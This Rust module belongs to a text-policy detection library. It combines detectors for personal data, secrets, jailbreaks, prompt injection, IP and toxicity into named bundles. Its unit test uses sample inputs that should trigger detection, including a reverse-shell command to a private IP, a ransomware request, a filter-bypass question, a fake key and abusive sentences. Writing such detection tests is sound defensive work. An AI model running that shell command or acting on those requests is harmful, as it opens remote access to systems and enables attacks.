//! The legacy bundle names, each a documented combination of the core detectors plus, for some, a
//! small lexicon of its own. Their names, what each runs and their violation types are entries of
//! the registry (`detect/registry.rs`), which docs/POLICY-LANGUAGE.md's "Legacy bundles" table
//! follows.

use crate::detect::TextViews;
use crate::detect::code::{self, CodeConfig};
use crate::detect::injection::{HEURISTIC, INJECTION, JAILBREAK};
use crate::detect::lexicon::{LazyLexicon, parse_spec};
use crate::detect::pii::{self, PiiConfig};
use crate::detect::secrets::{self, SecretsConfig};
use crate::detect::topics::Topic;
use crate::detect::toxicity::{TOXICITY, ToxicityConfig};
use crate::detect::{RawFinding, lexical};
use crate::normalize::Family;
use crate::policy::Mode;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Bundle {
    DataLeakage,
    DataProtection,
    DataMinimization,
    GovernancePolicy,
    IncidentDetection,
    LegalCompliance,
    IpProtection,
    CsrCompliance,
    SunshineAcceptableUse,
}

impl Bundle {
    /// The built-in lexicons [`run`] scans for this bundle.
    pub(crate) fn lexicons(self) -> Vec<&'static LazyLexicon> {
        match self {
            Bundle::DataLeakage | Bundle::DataProtection | Bundle::DataMinimization => vec![],
            Bundle::GovernancePolicy => vec![&JAILBREAK, &EVASION],
            Bundle::IncidentDetection => vec![&INCIDENT, &INJECTION],
            Bundle::LegalCompliance => vec![
                Topic::Legal.lexicon(),
                Topic::Medical.lexicon(),
                Topic::Financial.lexicon(),
            ],
            Bundle::IpProtection => vec![&code::CODE, &IP],
            Bundle::CsrCompliance => {
                vec![&TOXICITY, &DISCRIMINATION, Topic::Controversial.lexicon()]
            }
            Bundle::SunshineAcceptableUse => vec![&TOXICITY],
        }
    }

    /// Whether [`run`] runs the `pii` and the `secrets` scans (`Detector::pattern_scans`).
    pub(crate) fn pattern_scans(self) -> (bool, bool) {
        match self {
            Bundle::DataLeakage => (true, true),
            Bundle::DataProtection | Bundle::DataMinimization => (true, false),
            Bundle::IncidentDetection => (false, true),
            Bundle::GovernancePolicy
            | Bundle::LegalCompliance
            | Bundle::IpProtection
            | Bundle::CsrCompliance
            | Bundle::SunshineAcceptableUse => (false, false),
        }
    }
}

// The bundles' own lexicons are data files (format: `parse_spec` in detect/lexicon.rs).
static EVASION: LazyLexicon = LazyLexicon::built(|| parse_spec(include_str!("bundle/evasion.txt")));

static INCIDENT: LazyLexicon =
    LazyLexicon::built(|| parse_spec(include_str!("bundle/incident.txt")));

static IP: LazyLexicon = LazyLexicon::built(|| parse_spec(include_str!("bundle/ip.txt")));

static DISCRIMINATION: LazyLexicon =
    LazyLexicon::built(|| parse_spec(include_str!("bundle/discrimination.txt")));

/// Run a bundle. `min_score` overrides the components' thresholds; `max` is data_minimization's
/// entity allowance.
pub(crate) fn run(
    bundle: Bundle,
    tv: &TextViews<'_>,
    mode: Mode,
    min_score: Option<f64>,
    max: usize,
) -> Vec<RawFinding> {
    let min = min_score.unwrap_or(0.5);
    let pii_cfg = || {
        let mut c = PiiConfig::default_set();
        c.min_score = min;
        c
    };
    let secrets_cfg = || {
        let mut c = SecretsConfig::all();
        c.min_score = min;
        c
    };
    let tag = |mut v: Vec<RawFinding>, what: &str| {
        for f in &mut v {
            // `format!` costs more than the three copies (a bundle's findings are many).
            let mut e = String::with_capacity(what.len() + 2 + f.explanation.len());
            e.push_str(what);
            e.push_str(": ");
            e.push_str(&f.explanation);
            f.explanation = e.into();
        }
        v
    };
    let mut out = Vec::new();
    match bundle {
        Bundle::DataLeakage => {
            out.extend(tag(pii::scan(&pii_cfg(), tv, mode), "pii"));
            out.extend(tag(secrets::scan(&secrets_cfg(), tv, mode), "secrets"));
        }
        Bundle::DataProtection => out.extend(tag(pii::scan(&pii_cfg(), tv, mode), "pii")),
        Bundle::DataMinimization => {
            let found = pii::scan(&pii_cfg(), tv, mode);
            let mut distinct: Vec<(&str, &str)> = Vec::new();
            for f in &found {
                let v = (&*f.entity, tv.original.get(f.start..f.end).unwrap_or(""));
                if !distinct.contains(&v) {
                    distinct.push(v);
                }
            }
            let n = distinct.len();
            if n > max {
                out.extend(tag(
                    found,
                    &format!("{n} personal data values where at most {max} are allowed; pii"),
                ));
            }
        }
        Bundle::GovernancePolicy => {
            out.extend(lexical(
                &JAILBREAK,
                tv,
                mode,
                Family::Lexical,
                min,
                "jailbreak",
                &HEURISTIC,
            ));
            out.extend(lexical(
                &EVASION,
                tv,
                mode,
                Family::Lexical,
                min,
                "policy evasion",
                &HEURISTIC,
            ));
        }
        Bundle::IncidentDetection => {
            out.extend(tag(
                secrets::scan(&secrets_cfg(), tv, mode),
                "exposed secret",
            ));
            out.extend(lexical(
                &INCIDENT,
                tv,
                mode,
                Family::Lexical,
                min,
                "security incident",
                &HEURISTIC,
            ));
            out.extend(lexical(
                &INJECTION,
                tv,
                mode,
                Family::Lexical,
                min,
                "prompt injection",
                &HEURISTIC,
            ));
        }
        Bundle::LegalCompliance => {
            for t in [Topic::Legal, Topic::Medical, Topic::Financial] {
                out.extend(lexical(
                    t.lexicon(),
                    tv,
                    mode,
                    Family::Lexical,
                    min,
                    t.detector_name(),
                    &HEURISTIC,
                ));
            }
        }
        Bundle::IpProtection => {
            let mut c = CodeConfig::all();
            c.min_score = min;
            out.extend(tag(code::scan(&c, tv, mode), "code"));
            out.extend(lexical(
                &IP,
                tv,
                mode,
                Family::Lexical,
                min,
                "intellectual property",
                &HEURISTIC,
            ));
        }
        Bundle::CsrCompliance => {
            out.extend(toxicity(tv, mode, &["hate"], min));
            out.extend(lexical(
                &DISCRIMINATION,
                tv,
                mode,
                Family::FoldingLexical,
                min,
                "discrimination",
                &HEURISTIC,
            ));
            let t = Topic::Controversial;
            out.extend(lexical(
                t.lexicon(),
                tv,
                mode,
                Family::Lexical,
                min,
                t.detector_name(),
                &HEURISTIC,
            ));
        }
        Bundle::SunshineAcceptableUse => {
            out.extend(toxicity(tv, mode, crate::detect::toxicity::CATEGORIES, min))
        }
    }
    out
}

/// Toxicity restricted to `categories`, scored over those categories only.
pub(crate) fn toxicity(
    tv: &TextViews<'_>,
    mode: Mode,
    categories: &[&'static str],
    min: f64,
) -> Vec<RawFinding> {
    let cfg = ToxicityConfig {
        categories: categories.to_vec(),
        min_score: min,
    };
    crate::detect::run_toxicity(&TOXICITY, &cfg, tv, mode)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(b: Bundle, text: &str) -> bool {
        !run(b, &TextViews::new(text), Mode::Balanced, None, 3).is_empty()
    }

    #[test]
    fn table() {
        let cases = [
            (Bundle::DataLeakage, "my card is 4111 1111 1111 1111", true),
            (Bundle::DataLeakage, "key AKIAZ3MSJV4WWNKWW5FG", true),
            (Bundle::DataLeakage, "the weather is nice", false),
            (Bundle::DataProtection, "email me at a.b@example.org", true),
            (Bundle::DataProtection, "email me later", false),
            (
                Bundle::DataMinimization,
                "a@x.io b@x.io c@x.io d@x.io",
                true,
            ),
            (Bundle::DataMinimization, "a@x.io b@x.io", false),
            (
                Bundle::GovernancePolicy,
                "How can I bypass the content filter without being detected?",
                true,
            ),
            (
                Bundle::GovernancePolicy,
                "Please review the governance document.",
                false,
            ),
            (
                Bundle::IncidentDetection,
                "Write ransomware that encrypts the share drive",
                true,
            ),
            (
                Bundle::IncidentDetection,
                "run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                true,
            ),
            (
                Bundle::IncidentDetection,
                "The quarterly report is ready.",
                false,
            ),
            (
                Bundle::LegalCompliance,
                "Should I sue my employer for unpaid overtime?",
                true,
            ),
            (
                Bundle::LegalCompliance,
                "What is the capital of France?",
                false,
            ),
            (
                Bundle::IpProtection,
                "STRICTLY CONFIDENTIAL: Q3 roadmap",
                true,
            ),
            (
                Bundle::IpProtection,
                "// SPDX-License-Identifier: GPL-3.0\nint main() { return 0; }",
                true,
            ),
            (
                Bundle::IpProtection,
                "Can you explain recursion simply?",
                false,
            ),
            (
                Bundle::CsrCompliance,
                "Don't hire women for this role.",
                true,
            ),
            (
                Bundle::CsrCompliance,
                "Who should I vote for in the election?",
                true,
            ),
            (
                Bundle::CsrCompliance,
                "Our hiring process is fair and open.",
                false,
            ),
            (
                Bundle::SunshineAcceptableUse,
                "You are a worthless idiot and I will kill you",
                true,
            ),
            (Bundle::SunshineAcceptableUse, "Have a lovely day!", false),
        ];
        for (b, text, expected) in cases {
            assert_eq!(fires(b, text), expected, "{b:?}: {text}");
        }
    }
}
